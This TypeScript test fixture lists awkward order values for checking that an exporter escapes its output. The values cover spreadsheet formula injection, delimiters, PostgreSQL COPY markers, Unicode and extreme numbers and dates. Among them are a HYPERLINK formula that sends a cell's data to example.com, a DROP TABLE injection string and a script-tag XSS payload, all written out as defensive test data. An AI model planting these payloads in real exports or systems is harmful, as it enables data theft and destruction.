/** Values that exporters get wrong, in orders 1, 2, 3 … of the first tenant, in this order. */

export interface AwkwardOrder {
  /** Why it is difficult. */
  readonly what: string;
  readonly customerName: string;
  readonly note: string | null;
  /** Digits as PostgreSQL parses them. */
  readonly total?: string;
  /** A PostgreSQL timestamp. */
  readonly updatedAt?: string;
}

const name = (what: string, customerName: string): AwkwardOrder => ({ what, customerName, note: customerName });
const note = (what: string, text: string | null): AwkwardOrder => ({ what, customerName: 'Ana Pérez', note: text });

/** Text that a spreadsheet may run as a formula. */
const FORMULA_LIKE: readonly AwkwardOrder[] = [
  name('formula with =', '=1+1'),
  name('formula with +', '+1'),
  name('formula with -', '-1'),
  name('formula with @', '@SUM(A1:A9)'),
  name('formula after a tab', '\t=1+1'),
  name('formula after a carriage return', '\r=1+1'),
  name('formula after a line feed', '\n=1+1'),
  name('full-width =', '＝1+1'),
  name('full-width +', '＋1'),
  name('full-width -', '－1'),
  name('full-width @', '＠SUM(A1:A9)'),
  name('formula that sends data out', '=HYPERLINK("http://example.com?x="&A1,"click")'),
  name('formula after a space', ' =1+1'),
  name('not a formula: starts with an apostrophe', "'=1+1"),
  note('only a minus', '-'),
];

/** Text that a delimiter, a quote or an escape character may break. */
const DELIMITERS: readonly AwkwardOrder[] = [
  name('quotes', 'Dwayne "The Rock" Johnson'),
  name('only a quote', '"'),
  name('commas', 'Smith, John, Jr.'),
  name('semicolons', 'a;b;c'),
  name('tabs', 'a\tb\tc'),
  name('line feeds', 'first line\nsecond line\n'),
  name('carriage returns', 'first line\rsecond line'),
  name('both line ends', 'first line\r\nsecond line\r\n'),
  name('backslashes', 'C:\\temp\\new\\t'),
  name('a backslash at the end', 'ends with \\'),
  name("COPY's null marker", '\\N'),
  name("COPY's end marker", '\\.'),
  note("COPY's end marker on a line of its own", 'before\n\\.\nafter'),
  name('single quotes', "O'Brien ''"),
  name('a dollar quote', '$$; DROP TABLE orders; --'),
  name('markup', '<b>&amp;</b><script>alert(1)</script>'),
  name('the text NULL', 'NULL'),
];

/** Text in which a character is not one byte, one code unit or one column wide. */
const UNICODE: readonly AwkwardOrder[] = [
  name('emoji', '🙂 👩‍👩‍👧‍👦 🇪🇺'),
  name('right to left', 'שלום עולם مرحبا'),
  name('a combining accent', 'Zoe\u0308 Cafe\u0301'),
  name('CJK', '山田太郎 王小明 김철수'),
  name('a character outside the basic plane', '𠮷野家 𝒜'),
  name('a byte order mark', '\ufeffBOM'),
  name('zero width and no-break spaces', 'a\u200bb\u00a0c\u2028d\u2029e'),
  name('direction overrides', 'abc\u202edef\u202c'),
  name('non-characters', 'a\ufffeb\uffffc'),
  name('control characters', 'a\u0001b\u0007c\u001bd\u007fe\u0085f'),
  name("Excel's escape", '_x0041_ _x000D_'),
];

const VALUES: readonly AwkwardOrder[] = [
  { what: 'empty text next to null', customerName: '', note: null },
  { what: 'empty text in a nullable column', customerName: 'Ana Pérez', note: '' },
  name('only spaces', '   '),
  name('surrounding spaces', '  padded  '),
  name('leading zeros', '00123'),
  name('more digits than a double holds', '12345678901234567890'),
  name('looks like a number', '1e5'),
  name('looks like a date', '2026-01-02'),
  note('long text', 'Sehr lang. '.repeat(300)),
  note('longer than a spreadsheet cell', 'x'.repeat(40_000)),
  { ...note('the largest refund', 'refund'), total: '-9999999999.99' },
  { ...note('the largest total', 'whale'), total: '9999999999.99' },
  { ...note('zero', 'free'), total: '0.00' },
  { ...note('microseconds', null), updatedAt: '2026-03-29 01:30:00.123456+00' },
  { ...note('before the dates of spreadsheets', null), updatedAt: '1899-12-31 23:59:59+00' },
  { ...note('the last four-digit year', null), updatedAt: '9999-12-31 23:59:59+00' },
  { ...note('a year BC', null), updatedAt: '0044-03-15 12:00:00+00 BC' },
  { ...note('never', null), updatedAt: 'infinity' },
];

export const AWKWARD_ORDERS: readonly AwkwardOrder[] = [...FORMULA_LIKE, ...DELIMITERS, ...UNICODE, ...VALUES];
